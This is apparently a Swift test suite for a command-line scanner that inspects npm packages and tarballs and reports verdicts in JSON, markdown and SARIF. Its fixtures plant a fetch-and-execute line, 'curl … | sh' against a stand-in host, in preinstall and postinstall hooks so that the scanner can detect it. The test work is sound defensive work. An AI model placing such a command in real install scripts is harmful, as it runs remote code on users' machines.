// SPDX-License-Identifier: Apache-2.0

import Foundation
import NPMModel
import Testing

@Suite("lapwing inspect")
struct InspectTests {
    private static let files = [
        "package.json":
            #"{"name":"sample","version":"1.0.0","scripts":{"preinstall":"curl -s http://collect.example/x | sh"}}"#,
        "index.js": "module.exports = 1\n",
    ]

    private func scratch() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appending(path: "lapwing-inspect-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appending(path: "sample"), withIntermediateDirectories: true)
        for (name, text) in Self.files { try Data(text.utf8).write(to: folder.appending(path: "sample/\(name)")) }
        try Data(TarballWriter.tarball(of: Self.files)).write(to: folder.appending(path: "sample.tgz"))
        return folder
    }

    @Test("A tarball and the folder it was made of are judged alike, in the documented form, and end with 1")
    func judgesAlike() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let result = try await Program.run(
            "inspect", folder.appending(path: "sample.tgz").path, folder.appending(path: "sample").path, "--format", "json")
        #expect(result.status == 1)
        let root = try JSONDocument(result.output).root
        #expect(root["version"]?.integer == 1)
        let releases = root["releases"]?.elements.map { $0 } ?? []
        #expect(releases.map { $0["release"]?.string } == ["sample@1.0.0", "sample@1.0.0"])
        #expect(Set(releases.map { $0["verdict"]?.string }).count == 1)
        #expect(releases.map { $0["bits"]?.double } == [releases[0]["bits"]?.double, releases[0]["bits"]?.double])
        #expect(["suspicious", "dangerous"].contains(releases[0]["verdict"]?.string))
        let finding = try #require(releases[0]["findings"]?.elements.first { _ in true })
        for member in ["id", "title", "severity", "bits", "evidence"] { #expect(finding[member] != nil, "\(member)") }
        #expect(releases[0]["unread"]?.count == 0)
    }

    @Test("What cannot be read ends with 3 and says so; nothing named ends with 2")
    func couldNotLook() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        try Data("no archive".utf8).write(to: folder.appending(path: "broken.tgz"))
        let broken = try await Program.run("inspect", folder.appending(path: "broken.tgz").path)
        #expect(broken.status == 3)
        #expect(broken.errors.contains("broken.tgz"))
        #expect(try await Program.run("inspect").status == 2)
    }

    @Test("Many targets keep their order, also from standard input; clear ones take a line, and the last line counts")
    func many() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        var names: [String] = []
        for number in 0..<12 {
            let name = folder.appending(path: "clear-\(number).tgz").path
            let manifest = #"{"name":"clear-\#(number)","version":"1.0.0"}"#
            try Data(TarballWriter.tarball(of: ["package.json": manifest, "index.js": "module.exports = \(number)\n"]))
                .write(to: URL(filePath: name))
            names.append(name)
        }
        names.insert(folder.appending(path: "sample.tgz").path, at: 5)
        names.append(folder.appending(path: "none.tgz").path)
        let result = try await Program.run("inspect", "-", input: names.joined(separator: "\n") + "\n")
        #expect(result.status == 1)
        let lines = result.output.split(separator: "\n").map(String.init)
        let clear = lines.filter { $0.hasPrefix("clear-") }
        #expect(clear == (0..<12).map { "clear-\($0)@1.0.0: clear  \(folder.appending(path: "clear-\($0).tgz").path)" })
        #expect(lines.last?.hasPrefix("13 releases: 12 clear, 1 ") == true && lines.last?.hasSuffix("1 target could not be read.") == true)
        #expect(result.errors.contains("none.tgz"))
        let json = try await Program.run("inspect", "-", "--format", "json", input: names.joined(separator: "\n"))
        let releases = try JSONDocument(json.output).root["releases"]?.elements.map { $0["target"]?.string ?? "" }
        #expect(releases == names.dropLast())
    }

    @Test("Markdown explains what is not clear, and foreign text in it stays text")
    func markdown() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let result = try await Program.run("inspect", folder.appending(path: "sample").path, "--format", "markdown")
        #expect(result.status == 1)
        #expect(result.output.hasPrefix("### `sample@1.0.0`: "))
        #expect(result.output.contains("install-"))
    }

    @Test("SARIF has every member that its standard requires, for what was found and for what could not be read")
    func sarif() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let odd = folder.appending(path: "odd name#1")
        try FileManager.default.createDirectory(at: odd, withIntermediateDirectories: true)
        for (name, text) in Self.files { try Data(text.utf8).write(to: odd.appending(path: name)) }
        let result = try await Program.run(
            "inspect", folder.appending(path: "sample.tgz").path, odd.path, folder.appending(path: "none.tgz").path, "--format", "sarif")
        #expect(result.status == 1)
        let root = try JSONDocument(result.output).root
        #expect(SARIFCheck.problems(root) == [])
        let run = try #require(root["runs"]?.elements.first { _ in true })
        #expect((run["results"]?.count ?? 0) > 1)
        #expect(run["invocations"]?.elements.first { _ in true }?["executionSuccessful"]?.boolean == false)
        #expect(result.output.contains("odd%20name%231/package.json"))
    }

    @Test(
        "Wherever a payload lies, folder and tarball of the same bytes get the same verdict",
        arguments: ["node_modules/x/run.js", "lib/node_modules/x/run.js", "lib/.git/run.js", ".hidden/run.js", "run", "a b/run.cjs"])
    func sameBytes(path: String) async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let files = [
            "package.json": #"{"name":"sample","version":"1.0.0","scripts":{"postinstall":"node '\#(path)'"}}"#,
            path: "require('child_process').exec('curl -s http://collect.example/x | sh')\n",
        ]
        for (name, text) in files {
            let file = folder.appending(path: "same/\(name)")
            try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(text.utf8).write(to: file)
        }
        try Data(TarballWriter.tarball(of: files)).write(to: folder.appending(path: "same.tgz"))
        let result = try await Program.run(
            "inspect", folder.appending(path: "same").path, folder.appending(path: "same.tgz").path, "--format", "json")
        let releases = try JSONDocument(result.output).root["releases"]?.elements.map { $0 } ?? []
        #expect(releases.count == 2)
        #expect(releases[0]["verdict"]?.string == releases[1]["verdict"]?.string)
        #expect(releases[0]["bits"]?.double == releases[1]["bits"]?.double)
        #expect(result.status == 1)
    }

    @Test("YARA rules of the user become findings; rules that YARA refuses end with 3")
    func yara() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let rules = folder.appending(path: "own.yar")
        try Data("rule exports_one { meta: description = \"Exports one\" strings: $a = \"module.exports = 1\" condition: $a }".utf8)
            .write(to: rules)
        let target = folder.appending(path: "sample.tgz").path
        let result = try await Program.run("inspect", target, "--yara", rules.path, "--format", "json")
        let findings = try JSONDocument(result.output).root["releases"]?.elements.first { _ in true }?["findings"]
        #expect(findings?.elements.contains { $0["id"]?.string == "yara:exports_one" } == true)
        try Data("rule {".utf8).write(to: rules)
        let refused = try await Program.run("inspect", target, "--yara", rules.path)
        #expect(refused.status == 3)
        #expect(refused.errors.contains("own.yar"))
    }
}
